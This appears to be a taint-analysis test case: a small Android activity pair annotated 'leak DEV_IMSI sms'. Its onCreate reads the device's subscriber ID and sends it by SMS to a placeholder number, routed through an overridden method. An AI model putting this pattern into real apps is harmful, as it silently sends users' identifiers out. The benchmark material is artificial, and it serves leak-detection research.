// about       The base activity sends what a hook gives; the override adds to the base's value.
// leak        DEV_IMSI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends BaseActivity {
  @Override
  protected String label() {
    // With the base's value.
    return "label " + super.label();
  }
}

abstract class BaseActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    SmsManager.getDefault().sendTextMessage("+15550100", null, label(), null, null);
  }

  protected String label() {
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    return phone.getSubscriberId();
  }
}
